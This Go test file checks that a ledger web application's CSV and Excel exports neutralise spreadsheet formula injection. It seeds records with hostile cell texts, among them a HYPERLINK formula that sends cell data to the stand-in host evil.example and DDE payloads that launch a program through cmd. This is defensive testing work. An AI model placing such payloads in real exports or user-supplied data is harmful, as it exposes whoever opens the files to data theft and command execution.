package web_test

import (
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/xiezuo/xiezuo/ledger"
	"github.com/xiezuo/xiezuo/registry"
)

// hostile are cell texts a spreadsheet would run as formulas (OWASP “CSV
// Injection”): each starts with =, +, -, @, a tab or a carriage return.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?d="&A2,"点击查看")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// plainNumber is a cell a spreadsheet reads as a number, never a formula.
var plainNumber = regexp.MustCompile(`^[+-]?[0-9][0-9,]*(\.[0-9]+)?$`)

// TestExportsNeutraliseFormulas (issue 9, fault 5): text a unit typed that
// starts like a formula leaves every CSV export with a leading ' (and as a
// string cell, never a formula, in .xlsx); numbers stay numbers.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	admin, unit, reviewer := e.user("admin"), e.user("chengjiaqiao"), e.user("reviewer")
	// A giver whose name is a formula, in an approved 2020 contribution
	// whose item and note are formulas: it reaches the dashboard CSV.
	giver := &registry.Organisation{Name: hostile[0], Kind: "企业", Side: registry.SideEast}
	if err := e.db.SaveOrg(ctx, admin, giver); err != nil {
		t.Fatal(err)
	}
	c := &ledger.Contribution{Header: ledger.Header{UnitID: unit.OrgID}, DateFrom: "2020-09-15", Givers: []ledger.Org{{ID: giver.ID}},
		CountyCode: "532531000000", Form: "in_kind", Sector: "education", Delivery: "delivered", AmountFen: 9_000_000_012, // 90,000,000.12 元: first of the givers
		Quantity: 3, QuantityUnit: "@A1", Item: hostile[0], Note: hostile[1]}
	if err := e.db.SaveContribution(ctx, unit, c); err != nil {
		t.Fatal(err)
	}
	l := &ledger.LabourRecord{Header: ledger.Header{UnitID: unit.OrgID}, DateFrom: "2020-09-15", CountyCode: "532531000000",
		Kind: ledger.LabourKinds[0], Trained: 12, Destination: hostile[2]}
	if err := e.db.SaveLabour(ctx, unit, l); err != nil {
		t.Fatal(err)
	}
	for _, r := range []struct {
		kind ledger.Kind
		id   int64
	}{{ledger.KindContribution, c.ID}, {ledger.KindLabour, l.ID}} {
		if err := e.db.Transition(ctx, unit, r.kind, r.id, ledger.ActionSubmit, ""); err != nil {
			t.Fatal(err)
		}
		if err := e.db.Transition(ctx, reviewer, r.kind, r.id, ledger.ActionApprove, ""); err != nil {
			t.Fatal(err)
		}
	}
	// Older rows written before any check, straight into the tables; tab
	// and CR survive only this way (forms trim them).
	for _, q := range []string{
		`UPDATE activities SET title = $1, places = $2 WHERE id = (SELECT MIN(id) FROM activities)`,
		`UPDATE agreements SET title = $1, note = $2 WHERE id = (SELECT MIN(id) FROM agreements)`,
		`UPDATE projects SET title = $1, note = $2 WHERE id = (SELECT MIN(id) FROM projects)`,
		`UPDATE batches SET label = $1, count_unit = $2 WHERE id = (SELECT MIN(id) FROM batches)`,
	} {
		if _, err := e.db.SQL().ExecContext(ctx, q, hostile[4], hostile[5]); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	office := e.client("admin")
	checkCSV := func(name, body string, want ...string) {
		t.Helper()
		if !strings.HasPrefix(body, "\ufeff") {
			t.Errorf("%s: no BOM", name)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		found := map[string]bool{}
		numbers := 0
		for _, rec := range recs {
			for _, cell := range rec {
				found[cell] = true
				if plainNumber.MatchString(cell) {
					numbers++
					continue
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
			}
		}
		for _, w := range want {
			if !found["'"+w] {
				t.Errorf("%s: no neutralised cell %q", name, "'"+w)
			}
		}
		if numbers == 0 {
			t.Errorf("%s: no number cells left", name)
		}
	}
	exports := map[string][]string{
		"contributions": {hostile[0], hostile[1], "@A1"},
		"activities":    {hostile[4]},
		"agreements":    {hostile[4]},
		"projects":      {hostile[4]},
		"labour":        {hostile[2]},
		"batches":       {hostile[4], hostile[5]},
	}
	for kind, want := range exports {
		resp, body := do(t, office, "GET", e.srv.URL+"/export/"+kind+".csv", "", "")
		if resp.StatusCode != 200 {
			t.Fatalf("%s.csv: %d", kind, resp.StatusCode)
		}
		checkCSV(kind+".csv", body, want...)
		if kind == "contributions" && !strings.Contains(body, ",90000000.12,") {
			t.Errorf("contributions.csv: the amount 90000000.12 is not a plain number")
		}
	}
	resp, body := do(t, office, "GET", e.srv.URL+"/api/v1/dashboard?year=2020&format=csv", "", "")
	if resp.StatusCode != 200 {
		t.Fatalf("dashboard csv: %d", resp.StatusCode)
	}
	checkCSV("dashboard.csv", body, hostile[0])

	// The workbooks hold the same text as string cells, not formulas.
	for kind, want := range exports {
		resp, body := do(t, office, "GET", e.srv.URL+"/export/"+kind+".xlsx", "", "")
		if resp.StatusCode != 200 {
			t.Fatalf("%s.xlsx: %d", kind, resp.StatusCode)
		}
		checkXLSX(t, kind+".xlsx", body, want)
	}
}

// checkXLSX finds each text of want as a cell of the workbook's first sheet
// and checks it is a plain string cell with no formula.
func checkXLSX(t *testing.T, name, body string, want []string) {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range want {
		cell := ""
		for i, row := range rows {
			for j, v := range row {
				if v == w {
					cell, _ = excelize.CoordinatesToCellName(j+1, i+1)
				}
			}
		}
		if cell == "" {
			t.Errorf("%s: text %q not found as written", name, w)
			continue
		}
		if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
			t.Errorf("%s!%s: formula %q", name, cell, fm)
		}
		if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeFormula {
			t.Errorf("%s!%s: formula cell", name, cell)
		}
		if v, _ := f.GetCellValue(sheet, cell); v != w {
			t.Errorf("%s!%s = %q, want %q", name, cell, v, w)
		}
	}
}
